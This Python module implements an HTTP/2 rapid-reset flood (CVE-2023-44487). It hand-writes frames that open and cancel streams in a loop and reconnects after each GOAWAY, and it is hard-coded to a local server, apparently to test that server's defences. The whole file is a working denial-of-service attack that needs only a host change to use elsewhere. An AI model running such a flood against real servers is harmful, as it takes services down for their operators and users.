"""A client that opens streams and resets them at once (rapid reset, CVE-2023-44487), as many as it can or is told to.

Frames are written by hand (RFC 9113), since no well-behaved client lets one do this.
"""

import asyncio
import ssl
import struct
from dataclasses import dataclass
from typing import Final

_PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_HEADERS, _RST_STREAM, _SETTINGS, _WINDOW_UPDATE = 1, 3, 4, 8
_END_HEADERS: Final = 4
_CANCEL: Final = 8
_LAST_STREAM: Final = 2**31 - 1


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _literal(index: bytes, value: bytes) -> bytes:
    """A header that is not indexed (RFC 7541, 6.2.2), whose name is in the static table."""
    return index + bytes([len(value)]) + value


def _request(path: bytes, key: bytes) -> bytes:
    block = b"\x83\x87" + _literal(b"\x04", path) + _literal(b"\x01", b"localhost")
    block += _literal(b"\x0f\x10", b"application/grpc") + _literal(b"\x0f\x08", b"Bearer " + key)
    return block + b"\x00\x02te" + bytes([8]) + b"trailers"


@dataclass
class Flood:
    """What was sent so far, and over how many connections."""

    streams: int = 0
    connections: int = 0


async def flood(
    port: int, ca: str, key: str, count: Flood, *, per_s: float, path: str, source: tuple[str, int] | None = None
) -> None:
    """Flood a front on this machine until cancelled; after each GOAWAY or reset on a new connection.

    `source` is the address and port to come from; port 0: any.
    """
    context = ssl.create_default_context(cafile=ca)
    context.set_alpn_protocols(["h2"])
    block = _request(path.encode(), key.encode())
    while True:
        try:
            reader, writer = await asyncio.open_connection(
                "127.0.0.1", port, ssl=context, server_hostname="localhost", local_addr=source
            )
        except OSError:
            await asyncio.sleep(0.01)
            continue
        count.connections += 1
        reading = asyncio.create_task(_drop(reader))
        try:
            writer.write(
                _PREFACE + _frame(_SETTINGS, 0, 0, b"") + _frame(_WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**30))
            )
            await _send(writer, block, count, per_s, reading)
        except OSError:
            # The front has had enough of it.
            continue
        finally:
            reading.cancel()
            writer.transport.abort()


async def _send(
    writer: asyncio.StreamWriter, block: bytes, count: Flood, per_s: float, reading: "asyncio.Task[None]"
) -> None:
    loop = asyncio.get_running_loop()
    reset = struct.pack(">I", _CANCEL)
    batch = max(1, round(per_s / 100))
    due_s = loop.time()
    for first in range(1, _LAST_STREAM, 2 * batch):
        if reading.done():
            return
        streams = range(first, first + 2 * batch, 2)
        writer.write(b"".join(
            _frame(_HEADERS, _END_HEADERS, stream, block) + _frame(_RST_STREAM, 0, stream, reset) for stream in streams
        ))  # fmt: skip
        await writer.drain()
        count.streams += batch
        due_s = max(due_s + batch / per_s, loop.time() - 0.1)
        await asyncio.sleep(max(0.0, due_s - loop.time()))


async def _drop(reader: asyncio.StreamReader) -> None:
    """Read and forget, until the front closes."""
    while await reader.read(65_536):
        pass
